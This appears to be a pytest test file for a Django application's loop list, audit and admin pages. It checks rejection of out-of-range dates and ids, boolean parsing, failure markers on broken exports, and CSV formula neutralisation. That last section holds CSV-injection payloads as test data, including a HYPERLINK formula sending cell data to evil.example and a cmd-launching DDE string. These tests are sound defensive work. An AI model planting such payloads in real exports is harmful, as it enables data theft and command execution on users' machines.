"""Values that parse but cannot be held (dates out of range in UTC, ids beyond 64 bits), the
`deleted` booleans, and exports: validated before the first byte, detectably broken after.

Dates and ids out of range were 500s on SQLite (`make run`) and pass silently on
PostgreSQL; either way they are now the form's error, a 400 for an export, or the
admin's "?e=1".
"""

import json

import pytest
from django.db import connections
from django.test import Client

from loops.models import HumanLoop, LoopAction, LoopActionBatch
from loops.services import loop_list as loop_list_service
from tests.conftest import make_user, requires_postgresql

pytestmark = pytest.mark.django_db

TOO_EARLY = "0001-01-01T00:00:00+01:00"  # 31 Dec of year 0 in UTC
TOO_LATE = "9999-12-31T23:59:59-01:00"  # year 10000 in UTC
HUGE = "99999999999999999999"


def body(response) -> str:
    return b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()


@pytest.fixture
def superuser_client(superuser):
    client = Client()
    client.force_login(superuser)
    return client


# --- dates out of range in UTC ------------------------------------------------------


@pytest.mark.parametrize("param, value", [("created_after", TOO_EARLY), ("created_before", TOO_LATE)])
def test_a_date_out_of_range_in_utc_is_the_forms_error(viewer_client, world, param, value):
    response = viewer_client.get("/loops/", {param: value})

    assert response.status_code == 200
    assert response.context["table"] is None
    assert "out of range: in UTC it must fall between years 1 and 9999" in response.content.decode()


@pytest.mark.parametrize("export", ["csv", "json"])
def test_an_export_with_a_date_out_of_range_is_refused_before_the_first_byte(viewer_client, world, export):
    response = viewer_client.get("/loops/", {"created_after": TOO_EARLY, "_export": export})

    assert response.status_code == 400
    assert body(response).startswith("Export refused: created_after: This date and time is out of range")


def test_dates_at_the_edges_of_the_range_are_accepted(viewer_client, world):
    response = viewer_client.get("/loops/", {"created_after": "0001-01-01T00:00:00Z", "created_before": "9999-12-31T23:59:59Z"})
    assert response.status_code == 200 and len(response.context["table"].paginated_rows) == 7


# --- ids beyond 64 bits -------------------------------------------------------------------


def test_a_loop_id_beyond_64_bits_on_the_confirmation_page_is_a_400(world, operator):
    client = Client()
    client.force_login(operator)
    response = client.post("/actions/confirm/", {"action": "stop", "loop": HUGE})
    assert response.status_code == 400
    assert "Invalid loop id" in response.content.decode()
    response = client.post("/actions/confirm/", {"action": "stop", "select_all": "1", "upto": HUGE})
    assert response.status_code == 400


def test_a_batch_id_beyond_64_bits_on_the_audit_page_is_the_filters_error(world, auditor):
    client = Client()
    client.force_login(auditor)
    response = client.get("/actions/audit/", {"batch": HUGE + "999"})
    assert response.status_code == 200
    assert "Ensure this value is less than or equal to 9223372036854775807" in response.content.decode()
    assert client.get("/actions/audit/", {"batch": HUGE, "_export": "csv"}).status_code == 400


def test_an_admin_action_on_an_id_beyond_64_bits_is_refused_before_any_query(world, superuser_client):
    response = superuser_client.post(
        "/admin/loops/humanloop/", {"action": "stop_human_loops", "_selected_action": [str(world.inv_new.pk), HUGE]}, follow=True
    )
    assert response.status_code == 200
    assert "Invalid selection" in response.content.decode()
    assert not LoopActionBatch.objects.exists()
    response = superuser_client.post("/admin/loops/loopaction/", {"action": "export_as_csv", "_selected_action": HUGE})
    assert response.status_code == 302


@pytest.mark.parametrize(
    "query",
    [
        "creation_time__year=9999",
        "creation_time__year=9999&creation_time__month=12",
        "creation_time__year=9999&creation_time__month=12&creation_time__day=31",
        f"creation_time__year={HUGE}",
        "creation_time__year=0",
        "creation_time__gte=0001-01-01T00:00:00%2B01:00",
        f"flow_definition__id__exact={HUGE}",
    ],
)
def test_the_admins_date_hierarchy_and_filters_out_of_range_are_the_admins_bad_filter_page(world, superuser_client, query):
    response = superuser_client.get(f"/admin/loops/humanloop/?{query}")
    assert response.status_code == 302
    assert response["Location"].endswith("?e=1")


def test_the_admins_date_hierarchy_still_drills_down(world, superuser_client):
    year = world.inv_new.creation_time.year
    response = superuser_client.get(f"/admin/loops/humanloop/?creation_time__year={year}")
    assert response.status_code == 200 and "inv-new" in response.content.decode()


# --- deleted: the usual booleans -----------------------------------------------------


@pytest.mark.parametrize("value, shown", [
    ("0", False), ("off", False), ("no", False), ("false", False), ("", False),
    ("1", True), ("on", True), ("yes", True), ("TRUE", True),
])
def test_deleted_accepts_the_usual_booleans(viewer_client, world, value, shown):
    response = viewer_client.get("/loops/", {"deleted": value})
    names = [row.record.name for row in response.context["table"].paginated_rows]
    assert ("rec-gone" in names) is shown
    assert (' id="id_deleted" checked' in response.content.decode()) is shown


def test_deleted_with_another_value_is_the_forms_error(viewer_client, world):
    response = viewer_client.get("/loops/", {"deleted": "maybe"})
    assert response.context["table"] is None
    assert "Use 1/0, true/false, yes/no or on/off, not &#x27;maybe&#x27;." in response.content.decode()


# --- CSV formula neutralisation ---------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"details")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tx", "\rx"]


def test_the_loop_list_csv_neutralises_formulas_and_json_keeps_values(viewer_client, world):
    for i, formula in enumerate(FORMULAS):
        HumanLoop.objects.filter(pk=world.inv_fail.pk).update(failure_reason=formula)
        csv_text = body(viewer_client.get("/loops/", {"name": "inv-fail", "_export": "csv"}))
        assert ",'" + formula[:5] in csv_text or f"\"'{formula[:5]}" in csv_text, (i, csv_text)
        data = json.loads(body(viewer_client.get("/loops/", {"name": "inv-fail", "_export": "json"})))
        assert data[0]["Failure reason"] == formula


def test_the_audit_csv_neutralises_formulas_in_reasons_and_details(world, auditor, operator):
    batch = LoopActionBatch.objects.create(user=operator, action="stop", reason="@SUM(A1:A9)", total=1)
    LoopAction.objects.create(
        batch=batch, user=operator, loop=world.inv_new, action="stop", reason="@SUM(A1:A9)", outcome="failed", detail="=1+2"
    )
    client = Client()
    client.force_login(auditor)
    csv_text = body(client.get("/actions/audit/", {"_export": "csv"}))
    assert ",'@SUM(A1:A9)," in csv_text and ",'=1+2," in csv_text
    assert ",@SUM" not in csv_text and ",=1+2" not in csv_text
    admin = Client()
    admin.force_login(make_user("root", superuser=True))
    response = admin.post("/admin/loops/loopaction/", {"action": "export_as_csv", "_selected_action": [LoopAction.objects.get().pk]})
    assert ",'@SUM(A1:A9)," in body(response)


# --- an export that fails after it started -----------------------------------------------


@requires_postgresql
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("export", ["csv", "json"])
def test_an_export_that_fails_midway_ends_detectably_and_is_logged(world, viewer, monkeypatch, caplog, export):
    # One row per FETCH, so the export is still reading when its connection is killed.
    monkeypatch.setattr(loop_list_service, "EXPORT_CHUNK_SIZE", 1)


    client = Client()
    client.force_login(viewer)
    response = client.get("/loops/", {"_export": export})
    assert response.status_code == 200
    # The streaming body runs on a connection of its own alias; open a second one to kill it.
    pid = connections["default"].connection.info.backend_pid
    other = connections.create_connection("default")
    try:
        other.ensure_connection()
        chunks = iter(response.streaming_content)
        received = [next(chunks), next(chunks)]
        with other.cursor() as cursor:
            cursor.execute("SELECT pg_terminate_backend(%s)", [pid])
        received.extend(chunks)
    finally:
        other.close()
        response.close()
    text = b"".join(received).decode()

    if export == "csv":
        assert text.rstrip().splitlines()[-1].startswith("#EXPORT FAILED: the export stopped at this point and is incomplete")
    else:
        with pytest.raises(json.JSONDecodeError):
            json.loads(text)
        assert "#EXPORT FAILED" in text
    assert any("export failed after it started" in record.message for record in caplog.records)


# --- found by the fuzz test (tests/fuzz/test_every_url.py) -----------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/admin/loops/humanloop/?status__exact=%00",
        "/admin/loops/flowdefinition/?region=loop%00name",
        "/admin/axes/accesslog/?attempt_time__year=9999",
        f"/admin/axes/accesslog/?attempt_time__year={HUGE}",
        "/admin/auth/user/?date_joined__gte=0001-01-01T00:00:00%2B01:00",
    ],
)
def test_every_admin_on_the_site_answers_bad_filters_with_its_bad_filter_page(world, superuser_client, url):
    response = superuser_client.get(url)
    assert response.status_code == 302 and response["Location"].endswith("?e=1")


def test_an_empty_to_field_is_a_400_not_a_500(world, superuser_client, superuser):
    assert superuser_client.get(f"/admin/loops/humanloop/{world.inv_new.pk}/change/?_to_field=").status_code == 400
    assert superuser_client.get(f"/admin/auth/user/{superuser.pk}/delete/?_to_field=").status_code == 400


def test_a_login_with_an_over_long_username_is_a_failed_login_not_a_500(db):
    response = Client().post("/accounts/login/", {"username": "u" * 5000, "password": "x"})
    assert response.status_code == 200
    assert "Please enter a correct username and password" in response.content.decode()
